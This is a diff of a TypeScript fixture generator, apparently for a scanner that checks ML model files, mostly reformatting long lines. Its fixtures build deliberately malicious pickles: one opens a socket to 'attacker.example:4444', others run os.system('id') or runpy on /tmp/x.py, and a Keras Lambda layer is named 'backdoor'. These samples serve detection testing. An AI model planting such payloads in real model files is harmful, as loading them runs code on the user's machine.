@@ -21,7 +21,11 @@ const torchZip = (extra: { name: string; data: Buffer }[] = []) =>
 const keras = (layers: object[]) =>
   zipArchive([
     { name: "metadata.json", data: Buffer.from('{"keras_version": "3.6.0"}') },
-    { name: "config.json", data: Buffer.from(JSON.stringify({ class_name: "Sequential", config: { name: "sequential", layers } })), method: "deflate" },
+    {
+      name: "config.json",
+      data: Buffer.from(JSON.stringify({ class_name: "Sequential", config: { name: "sequential", layers } })),
+      method: "deflate",
+    },
     { name: "model.weights.h5", data: Buffer.from("\x89HDF\r\n\x1a\n", "latin1") },
   ]);
 
@@ -67,16 +71,37 @@ export function artifactFixtures(): Record<string, Buffer> {
       .stop()
       .bytes(),
     // an estimator: imports outside the known tensor set
-    "models/estimator.joblib": new PickleWriter().proto(4).shortUnicode("sklearn.linear_model._base").shortUnicode("LinearRegression").stackGlobal().emptyTuple().newObj().emptyDict().build().stop().bytes(),
+    "models/estimator.joblib": new PickleWriter()
+      .proto(4)
+      .shortUnicode("sklearn.linear_model._base")
+      .shortUnicode("LinearRegression")
+      .stackGlobal()
+      .emptyTuple()
+      .newObj()
+      .emptyDict()
+      .build()
+      .stop()
+      .bytes(),
     // torch.save's zip layout: only the storages' rebuild functions
     "models/state-dict.pt": torchZip(),
     // torch.save's layout with a second pickle entry beside data.pkl
     "models/extra-entry.pt": torchZip([{ name: "archive/extra.pkl", data: callPickle("runpy", "run_path", "/tmp/x.py") }]),
     // TorchServe archive: handler, manifest, and a compressed checkpoint whose data.pkl opens a socket
     "serving/model-store/classifier.mar": zipArchive([
-      { name: "MAR-INF/MANIFEST.json", data: Buffer.from('{"model": {"modelName": "classifier", "serializedFile": "model.pt", "handler": "handler.py"}}'), method: "deflate" },
+      {
+        name: "MAR-INF/MANIFEST.json",
+        data: Buffer.from('{"model": {"modelName": "classifier", "serializedFile": "model.pt", "handler": "handler.py"}}'),
+        method: "deflate",
+      },
       { name: "handler.py", data: Buffer.from("from ts.torch_handler.base_handler import BaseHandler\n"), method: "deflate" },
-      { name: "model.pt", data: zipArchive([{ name: "archive/data.pkl", data: callPickle("socket", "create_connection", "attacker.example:4444") }, { name: "archive/version", data: Buffer.from("3\n") }]), method: "deflate" },
+      {
+        name: "model.pt",
+        data: zipArchive([
+          { name: "archive/data.pkl", data: callPickle("socket", "create_connection", "attacker.example:4444") },
+          { name: "archive/version", data: Buffer.from("3\n") },
+        ]),
+        method: "deflate",
+      },
     ]),
     // NumPy object array: its body is a pickle
     "models/objects.npy": npy("|O", "(1,)", callPickle("os", "system", "id")),
@@ -87,11 +112,19 @@ export function artifactFixtures(): Record<string, Buffer> {
     ]),
     "models/lambda.keras": keras([
       { class_name: "InputLayer", config: { name: "input", batch_shape: [null, 2] } },
-      { class_name: "Lambda", config: { name: "backdoor", function: { class_name: "__lambda__", config: { code: "4wEAAAAAAAAA", defaults: null, closure: null } } } },
+      {
+        class_name: "Lambda",
+        config: {
+          name: "backdoor",
+          function: { class_name: "__lambda__", config: { code: "4wEAAAAAAAAA", defaults: null, closure: null } },
+        },
+      },
     ]),
     "models/dense.keras": keras([{ class_name: "Dense", config: { name: "dense", units: 2 } }]),
     "models/weights.safetensors": safetensors(),
-    "models/large.bin": Buffer.from("version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"),
+    "models/large.bin": Buffer.from(
+      "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
+    ),
     // a malicious pickle that a test suite keeps on purpose: reported lower
     "tests/fixtures/malicious.pkl": callPickle("os", "system", "id"),
   };
@@ -104,4 +137,5 @@ export function writeArtifactFixtures(dir: string): void {
   }
 }
 
-if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) writeArtifactFixtures(process.argv[2] ?? "rules/ml-serving/model-artifacts.fixtures");
+if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1])
+  writeArtifactFixtures(process.argv[2] ?? "rules/ml-serving/model-artifacts.fixtures");
